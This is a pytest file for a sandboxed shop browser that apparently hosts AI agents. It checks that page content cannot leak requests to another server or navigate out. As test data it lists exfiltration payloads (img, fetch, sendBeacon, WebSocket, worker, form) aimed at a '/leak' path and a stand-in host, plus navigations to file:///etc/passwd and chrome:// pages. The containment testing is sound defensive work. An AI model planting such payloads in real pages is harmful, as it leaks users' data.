"""Nothing gets out of the shop: not by an address, not from inside a page."""

from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask, request

from recallreach.env.errors import TransportError
from recallreach.env.transports import ChromiumTransport
from recallreach.env.types import Navigate
from recallreach.storefront.server import ShopServer

pytestmark = pytest.mark.browser


class Elsewhere:
    """Another server on this machine, which must never hear from the browser."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.app = Flask("elsewhere")
        self.app.before_request(lambda: self.heard.append(request.path))
        self.url = ""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    other = Elsewhere()
    with ShopServer(other.app) as running:
        other.url = running.url
        yield other


REQUESTS = {
    "picture": '<img src="{url}/leak">',
    "frame": '<iframe src="{url}/leak"></iframe>',
    "script": '<script src="{url}/leak"></script>',
    "style": '<link rel="stylesheet" href="{url}/leak">',
    "prefetch": '<link rel="prefetch" href="{url}/leak"><link rel="preconnect" href="{url}">',
    "fetch": "<script>fetch('{url}/leak', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', '{url}/leak'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('{url}/leak', 'x')</script>",
    "websocket": "<script>new WebSocket('{url}/leak'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('{url}/leak')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{url}/leak')\"])))</script>",
    "service-worker": "<script>navigator.serviceWorker && "
    "navigator.serviceWorker.register('/inside/sw.js').catch(() => 0)</script>",
    "own-redirect": '<img src="/away-elsewhere">',
}
NAVIGATIONS = {
    "location": "<script>location.href = '{url}/leak'</script>",
    "late-location": "<script>setTimeout(() => {{ location.href = '{url}/leak' }}, 0)</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url={url}/leak">',
    "open": "<script>open('{url}/leak')</script>",
    "form": '<form id="f" action="{url}/leak"></form><script>f.submit()</script>',
    "file": "<script>location.href = 'file:///etc/passwd'</script>",
    "data": "<script>location.href = 'data:text/html,<h1>out</h1>'</script>",
    "view-source": "<script>location.href = 'view-source:' + location.href</script>",
    "chrome": "<script>location.href = 'chrome://version'</script>",
    "devtools": "<script>open('devtools://devtools/bundled/inspector.html')</script>",
    "name": "<script>location.href = 'http://elsewhere.example/leak'</script>",
}


def visit(transport: ChromiumTransport, path: str) -> str:
    """Open a page and two more; where the first visit ended: its address, "refused", or "error"."""
    try:
        seen = transport.act(Navigate(path))
        ended = "refused" if seen.message.startswith("Refused: ") else seen.url
    except TransportError:
        ended = "error"
    for _ in range(2):
        assert transport.act(Navigate("/other")).url == "/other"
    return ended


@pytest.mark.parametrize("name", REQUESTS)
def test_no_request_of_a_page_reaches_another_server(
    troubled: Any, troubled_chromium: ChromiumTransport, elsewhere: Elsewhere, name: str
) -> None:
    troubled_chromium.begin()
    troubled.elsewhere = elsewhere.url
    troubled.bodies["/inside/x"] = REQUESTS[name].format(url=elsewhere.url)
    assert visit(troubled_chromium, "/inside/x") == "/inside/x"
    assert elsewhere.heard == []


@pytest.mark.parametrize("name", NAVIGATIONS)
def test_no_page_leads_the_shopper_out(
    troubled: Any, troubled_chromium: ChromiumTransport, elsewhere: Elsewhere, name: str
) -> None:
    troubled_chromium.begin()
    troubled.bodies["/inside/x"] = NAVIGATIONS[name].format(url=elsewhere.url)
    assert visit(troubled_chromium, "/inside/x") in ("/inside/x", "refused")
    assert elsewhere.heard == []


def test_the_pages_of_these_tests_would_reach_the_shop_itself(
    troubled: Any, troubled_chromium: ChromiumTransport
) -> None:
    """The control: the same ways out do work where they are allowed."""
    troubled_chromium.begin()
    reached = []
    for name in ("fetch", "xhr", "beacon", "frame", "script", "location", "refresh", "form"):
        troubled.seen.clear()
        page = (REQUESTS | NAVIGATIONS)[name].format(url="").replace("/leak", "/inside/leak")
        troubled.bodies["/inside/x"] = page
        visit(troubled_chromium, "/inside/x")
        reached += [name] if troubled.seen["/inside/leak"] else []
    assert len(reached) >= 6, reached
